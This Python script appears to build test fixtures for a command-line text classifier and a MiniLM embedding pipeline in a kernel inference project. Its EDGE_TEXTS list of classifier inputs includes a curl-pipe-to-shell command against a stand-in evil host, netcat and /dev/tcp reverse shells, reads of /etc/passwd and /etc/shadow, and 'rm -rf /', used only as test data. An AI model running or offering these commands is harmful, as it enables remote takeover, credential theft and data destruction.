# SPDX-License-Identifier: GPL-2.0
"""Fixtures of the in-kernel NLP tests (tests/vm/test_nlp.py), made on the host.

    nlp_fixtures.py OUTDIR

OUTDIR/classifier: the demo command-line classifier (kinfer.examples.
text_classifier) as a pipeline (kinfer.nlp), 120 texts (hex) and what JAX
says of each (label, score) on HF tokenizers' ids of the bytes the
pipeline sees.

OUTDIR/minilm: all-MiniLM-L6-v2 behind the tokenizer at 16 tokens, batch 8,
whose "scores" output is the embedding itself (a similarity pipeline with
the identity as prototypes: a MatMul by I is exact), 32 sentences of the
golden file with at most 16 ids, and sentence-transformers' embeddings of
them (models/tests/data/minilm_golden.json).
"""

from __future__ import annotations

import json
import sys
from pathlib import Path

import jax
import numpy as np
import onnx

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tests/python"))

import tokenizer_corpus  # noqa: E402

from kinfer.examples.minilm import load_minilm, minilm_dir  # noqa: E402
from kinfer.examples.text_classifier import (  # noqa: E402
    DEMO_LABELS,
    demo_corpus,
    train_demo_classifier,
)
from kinfer.flax import export  # noqa: E402
from kinfer.nlp import Pipeline, compose, encode_text  # noqa: E402

MAX_BYTES = 256
CLS_LENGTH = 32
MINILM_LENGTH = 16
MINILM_BATCH = 8
MINILM_SENTENCES = 32

EDGE_TEXTS: list[str | bytes] = [
    "",
    "LS -LA /HOME/ALICE",
    "Curl -s HTTP://Evil.Example/X.SH | SH",
    "café déjà vu: naïve résumé; cat /etc/passwd",
    "😀 sudo reboot 👍🏽 now",
    "[CLS] nc -e /bin/sh [SEP] 203.0.113.9 [MASK] 4444",
    b"\xff\xfe\xfdcat /etc/shadow",
    b"rm\x00 -rf\x00 /",
    "a" * 300,
    " ".join(["ls"] * 60),
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 " * 8,
    "\x07\x1b[31mred\x1b[0m tail -f /var/log/syslog",
]


def classifier(out: Path) -> None:
    module, variables = train_demo_classifier(0, max_length=CLS_LENGTH)
    pipe = Pipeline.classifier(module, variables, minilm_dir() / "vocab.txt", DEMO_LABELS,
                               max_length=CLS_LENGTH, max_bytes=MAX_BYTES, name="cmdline")  # fmt: skip
    pipe.save(out)
    texts: list[str | bytes] = list(demo_corpus(seed=23, count=108)[0]) + EDGE_TEXTS
    seen = [encode_text(t, MAX_BYTES) for t in texts]
    encode = tokenizer_corpus.hf_tokenizer(minilm_dir() / "tokenizer.json", CLS_LENGTH)
    ids = np.zeros((len(seen), CLS_LENGTH), np.int32)
    mask = np.zeros_like(ids)
    for i, t in enumerate(seen):
        row = encode(t)
        ids[i, : len(row)] = row
        mask[i, : len(row)] = 1
    probs = np.asarray(jax.nn.softmax(module.apply(variables, ids, mask), axis=-1))
    expected = {
        "labels": DEMO_LABELS,
        "texts": [t.hex() for t in seen],
        "label": probs.argmax(axis=1).tolist(),
        "score": probs.max(axis=1).astype(np.float32).tolist(),
    }
    (out / "expected.json").write_text(json.dumps(expected))


def minilm(out: Path) -> None:
    golden = json.loads((ROOT / "models/tests/data/minilm_golden.json").read_text())
    chosen = [i for i, ids in enumerate(golden["ids"]) if len(ids) <= MINILM_LENGTH]
    chosen = chosen[:MINILM_SENTENCES]
    module, variables = load_minilm()
    ids = np.zeros((MINILM_BATCH, MINILM_LENGTH), np.int32)
    model = export(module, variables, ids, ids.copy())
    eye = np.eye(model.graph.output[0].type.tensor_type.shape.dim[1].dim_value, dtype=np.float32)
    pipe = compose(model, minilm_dir() / "vocab.txt", kind="similarity", max_bytes=MAX_BYTES,
                   prototypes=eye, name="minilm")  # fmt: skip
    out.mkdir(parents=True, exist_ok=True)
    onnx.save(pipe, out / "pipeline.onnx")
    expected = {
        "sentences": [golden["sentences"][i] for i in chosen],
        "embeddings": [golden["embeddings"][i] for i in chosen],
        "batch": MINILM_BATCH,
        "max_bytes": MAX_BYTES,
    }
    (out / "expected.json").write_text(json.dumps(expected))


def main(argv: list[str]) -> int:
    out = Path(argv[0])
    classifier(out / "classifier")
    minilm(out / "minilm")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
